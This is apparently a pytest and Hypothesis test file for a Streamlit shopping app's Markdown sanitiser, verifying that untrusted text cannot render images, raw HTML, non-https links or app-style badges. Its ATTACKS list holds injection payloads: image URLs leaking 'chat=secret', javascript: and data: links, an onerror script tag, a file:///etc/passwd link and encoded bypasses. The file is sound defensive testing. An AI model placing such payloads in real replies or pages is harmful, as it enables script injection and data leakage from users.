"""Untrusted text keeps no power over the page: no images, no raw HTML, https links only, no
Streamlit directive, icon or shortcode that could imitate the app's own cards.

`hazards` reads Markdown the way Streamlit's renderer does where it matters here (checked
in Chromium against this Streamlit, see swiggy_ui/safe_text.py): a backslash escape
disables a construct when the source is parsed, but shortcodes (emoji, `:material/…:`,
`:streamlit:`) and bare links are found afterwards in the text with escapes resolved.
"""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from hypothesis_profiles import examples

from swiggy_ui.safe_text import LOOKALIKE_COLON, inline_code, markdown_text, plain, safe_link_url

_ASCII_PUNCTUATION = frozenset("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~")
_BACKTICKS = re.compile(r"`+")
_HTTPS = re.compile(r"https://\S*", re.IGNORECASE)
_CHECKS_BEFORE_PARSING = {
    "directive": re.compile(r":[A-Za-z]"),
    "image": re.compile(r"!\["),
    "html or autolink": re.compile(r"<[A-Za-z/!?]"),
    "link": re.compile(r"\]\((?!https://)"),
    "reference definition": re.compile(r"\]:"),
    "math": re.compile(r"\$"),
    "entity": re.compile(r"&(?!(?:lt|gt|amp|quot|#39);)(#\w+|[A-Za-z]\w*);"),
    "code span swallowing escapes": re.compile(r"`"),
}
_CHECKS_AFTER_PARSING = {
    "shortcode": re.compile(r":[\w+/-]+:", re.ASCII),
    "non-https bare link": re.compile(
        r"(?i)(http://|www\.)|[-.\w+]+@[-\w]+(?:\.[-\w]+)+", re.ASCII
    ),
}


def read(source: str, *, code_spans: bool = True) -> tuple[str, str]:
    """(source with escapes and code spans blanked, its text with escapes resolved).

    Left to right as CommonMark does: a backslash before ASCII punctuation escapes it; an
    unescaped backtick run opens a code span if the same run closes it, and inside a span
    nothing (not even a backslash) means anything. With `code_spans=False` backticks are
    read as plain characters (for raw input, where no span is trusted).
    """
    parsed: list[str] = []
    text: list[str] = []
    i = 0
    while i < len(source):
        char = source[i]
        if char == "\\" and i + 1 < len(source) and source[i + 1] in _ASCII_PUNCTUATION:
            parsed.append("\x00\x00")
            text.append(source[i + 1])
            i += 2
            continue
        if char == "`" and code_spans:
            run = _BACKTICKS.match(source, i)
            assert run is not None
            width = len(run.group())
            closing = next(
                (m for m in _BACKTICKS.finditer(source, run.end()) if len(m.group()) == width),
                None,
            )
            if closing is not None:
                parsed.append(" ")
                text.append(" ")
                i = closing.end()
                continue
            parsed.append(run.group())
            text.append(run.group())
            i = run.end()
            continue
        parsed.append(char)
        text.append(char)
        i += 1
    return "".join(parsed), "".join(text)


def hazards(source: str, *, app_code_spans: bool = True) -> list[str]:
    """What `source` would render that untrusted text must not (empty when safe)."""
    parsed, text = read(source, code_spans=app_code_spans)
    found = [name for name, rule in _CHECKS_BEFORE_PARSING.items() if rule.search(parsed)]
    text = _HTTPS.sub(" ", text)  # https links are allowed
    return found + [name for name, rule in _CHECKS_AFTER_PARSING.items() if rule.search(text)]


ATTACKS = [
    ":green[**Order placed**] ✅",
    ":red-background[Payment failed] :green-badge[Verified] :gray-badge[x]",
    ':color[hi]{foreground="red"} :help[tip] :small[s] :rainbow[r] :shimmer[s]',
    "::green[leaf]\n\n:::green\ncontainer\n:::",
    "x :material/check_circle: y :material_check: z",
    "done :white_check_mark: :+1: :-1: :streamlit: :100:",
    "![x](http://127.0.0.1:9/pixel?chat=secret)",
    "![x](https://media-assets.swiggy.com/a.png) ![y][r]\n\n[r]: http://127.0.0.1:9/ref",
    '![x](<http://127.0.0.1:9/p q>) ![a [b] c](http://127.0.0.1:9/n "t")',
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](data:text/html;base64,PHNjcmlwdD4=) [j](javascript:alert(1)) [J](JaVaScRiPt:x)",
    "[h](http://evil.example) [v](vbscript:x) [f](file:///etc/passwd) [m](mailto:a@b.c)",
    "<data:text/html,x> <http://a.b> <javascript:alert(1)>",
    "see http://evil.example/x and www.evil.example and a@b.com and mailto:c@d.co",
    "<img src=x onerror=alert(1)> <b>bold</b> <a href='data:x'>a</a> <!-- c -->",
    "$\\color{green}\\textbf{Order placed}$ and $$\\colorbox{green}{x}$$",
    "[c][1] [d] [^n]\n\n[1]: data:text/html,hi\n[d]: javascript:alert(1)\n[^n]: x",
    "&#58;smile&#58; &#x3A;material/check&#x3A; &#91;x&#93;&#40;data:x&#41; &lt;img&gt;",
    "\\:green[x] \\\\:green[y] \\![i](http://127.0.0.1:9/e) \\\\![j](http://127.0.0.1:9/f)",
    "`:green[x]` ```\n:green[y]\n``` ~~~\n:green[z]\n~~~",
    "[![inner](http://127.0.0.1:9/i)](https://swiggy.com)",
    "[**:green[x]**](https://swiggy.com/:red[y])",
    "https://swiggy.com/x:green[y] https://a.com/$x$ https://a.com/![i](http://b/c)",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_are_inert_as_markdown(attack: str) -> None:
    assert hazards(markdown_text(attack)) == [], markdown_text(attack)


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_are_inert_as_plain_text(attack: str) -> None:
    safe = plain(attack)
    assert "\n" not in safe
    assert hazards(safe) == [], safe
    assert "](" not in read(safe)[0]  # no link at all, not even https


def test_the_hazard_reader_sees_each_attack() -> None:
    """The checks above mean something: every raw attack is caught."""
    for attack in ATTACKS:
        assert hazards(attack, app_code_spans=False), attack


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (":green[**Order placed**] ✅", "\\:green\\[**Order placed**\\] ✅"),
        ("![x](http://127.0.0.1:9/pixel?chat=secret) hi", "x hi"),
        ("![](https://media-assets.swiggy.com/a.png)", ""),
        ("[ok](https://swiggy.com/help) [no](http://x.com)", "[ok](https://swiggy.com/help) no"),
        ("[j](javascript:alert(1))", "j"),
        ("[d](data:text/plain,hi)", "d"),
        ("[u](https://user@evil.example/)", "u"),
        ("at 8:30 pm, Note:Flat", "at 8:30 pm, Note\\:Flat"),
        (
            ":white_check_mark: :material/check:",
            f"{LOOKALIKE_COLON}white_check_mark: {LOOKALIKE_COLON}material/check:",
        ),
        ("see http://evil.example", "see `http://evil.example`"),
        ("https://www.swiggy.com/search?q=milk&p=2", "https://www.swiggy.com/search?q=milk&p=2"),
        ("<b>x</b> & $5", "\\<b>x\\</b> \\& \\$5"),
        ("a &lt;b&gt; &amp; &#58;smile&#58;", "a &lt;b&gt; &amp; \\&#58;smile\\&#58;"),
    ],
)
def test_markdown_text(text: str, expected: str) -> None:
    assert markdown_text(text) == expected


def test_ordinary_formatting_is_kept() -> None:
    reply = "**Amul Butter** (500 g) is ₹275.\n\n- _fresh_\n- 2 left\n\n## Cart\n> note"
    assert markdown_text(reply) == reply


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Amul Taaza Toned Milk", "Amul Taaza Toned Milk"),
        ("Milk (1 L) · ₹27.50", "Milk (1 L) · ₹27.50"),
        ("1. Milk", "1\\. Milk"),
        ("# Order placed", "\\# Order placed"),
        ("- item", "\\- item"),
        ("Lays *Classic*_x_ ~~y~~", "Lays \\*Classic\\*\\_x\\_ \\~\\~y\\~\\~"),
        ("a\nb  \t c", "a b c"),
        ("[ok](https://swiggy.com)", "\\[ok\\](`https://swiggy.com`)"),
        (None, ""),
        ("", ""),
    ],
)
def test_plain(text: str | None, expected: str) -> None:
    assert plain(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("OD-123", "`OD-123`"),
        ("1`2", "``1`2``"),
        ("`x", "`` `x ``"),
        ("a\nb", "`a b`"),
        ("", ""),
        (None, ""),
    ],
)
def test_inline_code(text: str | None, expected: str) -> None:
    assert inline_code(text) == expected


@pytest.mark.parametrize(
    ("url", "ok"),
    [
        ("https://swiggy.com/help", True),
        ("HTTPS://swiggy.com", True),
        ("http://swiggy.com", False),
        ("https://", False),
        ("https://user:pw@swiggy.com", False),
        ("https://swiggy.com:99999/", False),
        ("https://swiggy.com/a b", False),
        ("https://swiggy.com/\\x", False),
        ("data:text/html,hi", False),
        ("javascript:alert(1)", False),
        ("//swiggy.com", False),
    ],
)
def test_safe_link_url(url: str, ok: bool) -> None:
    assert (safe_link_url(url) == url) is ok


_ALPHABET = st.sampled_from(
    [
        *":[]()!<>&$`\\*_~#-@./ \n",
        *("a", "Z", "0", "{", "}", '"', "&#58;", "&amp;", "\x00", "\u2236"),
        *("http://", "https://", "HTTPS://", "www.", "data:", "mailto:", "x.com"),
        *("green", "material/", "white_check_mark", "streamlit", "-badge"),
        *("![", "](", "]:", "[a", "](https://ok.com)", "](<https://ok.com>)"),
    ]
)


@settings(max_examples=examples(600), deadline=None)
@given(st.lists(_ALPHABET, max_size=40).map("".join))
def test_any_text_is_inert(text: str) -> None:
    assert hazards(markdown_text(text)) == [], (text, markdown_text(text))
    assert hazards(plain(text)) == [], (text, plain(text))
